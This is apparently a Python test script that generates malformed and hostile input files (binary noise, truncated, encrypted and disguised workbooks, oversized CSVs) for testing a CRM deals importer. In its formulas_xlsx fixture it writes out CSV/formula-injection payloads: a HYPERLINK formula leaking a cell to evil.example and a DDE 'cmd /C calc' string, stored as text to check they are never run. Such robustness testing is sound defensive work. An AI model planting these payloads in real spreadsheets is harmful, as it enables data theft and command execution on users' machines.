"""The broken and hostile files of the corpus that are binary or large, made on the fly (never committed).

The text files of the corpus live in ``tests/corpus/files/``; this script writes the others into a folder:
``python tests/corpus/make_corpus.py OUT_DIR`` (the tests call ``write_generated(tmp_dir)``). Every file is the
same on every run (fixed seeds), so a failure can be reproduced by hand. ``big_deals_csv`` writes the 100 MB
export used by the size test; it is never part of the corpus folder.
"""
from __future__ import annotations

import io
import random
import shutil
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

HERE = Path(__file__).resolve().parent
TEXT_DIR = HERE / "files"
ENCRYPTED = HERE.parent / "fixtures" / "readers" / "encrypted.xlsx"
DEALS_HEADER = ["Record ID", "Deal Name", "Deal Stage", "Amount", "Create Date", "Close Date"]
LONG = 100_000


def binary_garbage() -> bytes:
    """Random bytes (with NULs), as when an image or an archive is renamed .csv."""
    return random.Random(8).randbytes(8192)


def binary_high_bytes() -> bytes:
    """Random bytes without any NUL or line break: decodes as Windows-1252 noise, finds no table."""
    rng = random.Random(9)
    return bytes(rng.randrange(0x80, 0x100) for _ in range(8192))


def _xlsx(rows: list[list], text_cells: bool = True) -> bytes:
    """A workbook of one sheet; with ``text_cells``, strings starting with '=' stay text, never formulas."""
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.title = "Deals"
    for row in rows:
        sheet.append(row)
    if text_cells:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith("="):
                    cell.data_type = "s"
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _deals_rows(count: int) -> list[list]:
    return [DEALS_HEADER] + [[str(i), f"Deal {i}", "appointmentscheduled", 1000 + i, "2026-10-01", "2026-12-15"]
                             for i in range(1, count + 1)]


def truncated_xlsx() -> bytes:
    """A real workbook cut in the middle, as when a download is interrupted."""
    whole = _xlsx(_deals_rows(200))
    return whole[: len(whole) // 2]


def formulas_xlsx() -> bytes:
    """Text cells that look like formulas, and one real formula cell (openpyxl stores no cached value)."""
    rows = [DEALS_HEADER + ["Deal owner"],
            ["1", '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', "appointmentscheduled", 1000,
             "2026-10-01", "2026-12-15", "@SUM(A1:A9)"],
            ["2", "+cmd|' /C calc'!A0", "qualifiedtobuy", 2000, "2026-10-01", "2026-12-15", "-2+3"]]
    data = _xlsx(rows)
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(data))
    book["Deals"]["D3"] = "=SUM(1000,1000)"  # a real formula: read as its cached value (none here), never run
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def zip_archive() -> bytes:
    """A ZIP archive holding a CSV, named .xlsx (a CRM 'export all' bundle)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("deals.csv", ",".join(DEALS_HEADER) + "\n1,Acme,closedwon,1000,2026-10-01,2026-11-02\n")
    return buffer.getvalue()


def two_hundred_columns() -> bytes:
    """A deals export with 200 columns: the 6 known ones, 4 grouping columns, 190 custom fields."""
    custom = [f"Custom field {i}" for i in range(1, 191)]
    groups = ["Lead Source", "Segment", "Region", "Industry"]
    header = DEALS_HEADER + groups + custom
    lines = [",".join(header)]
    for i in range(1, 51):
        row = [str(i), f"Deal {i}", "qualifiedtobuy", str(100 * i), "2026-10-01", "2026-12-15",
               "Web", "SMB", "EMEA", "Retail"] + [f"v{i}.{j}" for j in range(190)]
        lines.append(",".join(row))
    return ("\n".join(lines) + "\n").encode()


def long_strings() -> bytes:
    """Cells and a header of 100,000 characters."""
    long_header = "Segment " + "H" * LONG
    header = DEALS_HEADER + ["Deal owner", long_header]
    rows = [["1", "N" * LONG, "appointmentscheduled", "1000", "2026-10-01", "2026-12-15", "O" * LONG, "x"],
            ["2", "Short", "qualifiedtobuy", "2" * LONG, "2026-10-01", "2026-12-15", "Bob", "y"],
            ["3", "Date", "qualifiedtobuy", "10", "2026-10-01" + " " * 10 + "Z" * LONG, "2026-12-15", "Bob", "z"]]
    return ("\n".join(",".join(r) for r in [header, *rows]) + "\n").encode()


def encrypted_xlsx() -> bytes:
    """The password-protected workbook of the reader fixtures."""
    return ENCRYPTED.read_bytes()


GENERATED: dict[str, Callable[[], bytes]] = {
    "binary_garbage.csv": binary_garbage,
    "binary_high_bytes.csv": binary_high_bytes,
    "truncated.xlsx": truncated_xlsx,
    "encrypted.xlsx": encrypted_xlsx,
    "formulas.xlsx": formulas_xlsx,
    "zip_archive.xlsx": zip_archive,
    "two_hundred_columns.csv": two_hundred_columns,
    "long_strings.csv": long_strings,
}


def write_generated(out: Path) -> dict[str, Path]:
    """Write every generated corpus file into ``out``; returns {file name: path}."""
    out.mkdir(parents=True, exist_ok=True)
    paths = {}
    for name, make in GENERATED.items():
        paths[name] = out / name
        paths[name].write_bytes(make())
    return paths


def corpus_files(out: Path) -> dict[str, Path]:
    """Every corpus file, text and generated, by name (generated ones written into ``out``)."""
    files = {p.name: p for p in sorted(TEXT_DIR.iterdir()) if p.is_file()}
    return {**files, **write_generated(out)}


def big_deals_csv(path: Path, target_bytes: int = 100 * 1024 * 1024, snapshot: str = "1", tbd_every: int = 997) -> int:
    """A HubSpot-like deals export of about ``target_bytes``; returns its number of data rows.

    Written in blocks so the generator itself stays small in memory. Every ``tbd_every``-th row has the amount
    'TBD' (rejected), so a large import also exercises rejections; 0 makes a clean export.
    """
    stages = ["appointmentscheduled", "qualifiedtobuy", "presentationscheduled", "decisionmakerboughtin",
              "contractsent", "closedwon", "closedlost"]
    header = "Record ID,Deal Name,Pipeline,Deal Stage,Amount,Create Date,Close Date,Deal owner,Lead Source\n"
    rows = 0
    with open(path, "w", encoding="utf-8", newline="") as out:
        out.write(header)
        written = len(header)
        while written < target_bytes:
            block = []
            for i in range(rows, rows + 10_000):
                amount = "TBD" if tbd_every and i % tbd_every == 0 else str(500 + (i * 37) % 90_000)
                block.append(f"{snapshot}-{i},Deal number {i} for a customer,default,{stages[i % 7]},{amount},"
                             f"2026-{1 + i % 12:02d}-{1 + i % 28:02d},2027-{1 + i % 12:02d}-{1 + i % 28:02d},"
                             f"Owner {i % 40},Source {i % 9}\n")
            text = "".join(block)
            out.write(text)
            written += len(text)
            rows += 10_000
    return rows


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit("usage: python tests/corpus/make_corpus.py OUT_DIR")
    target = Path(sys.argv[1])
    for name, path in corpus_files(target).items():
        if path.parent != target:
            shutil.copy(path, target / name)
    print(f"wrote the corpus to {target}")
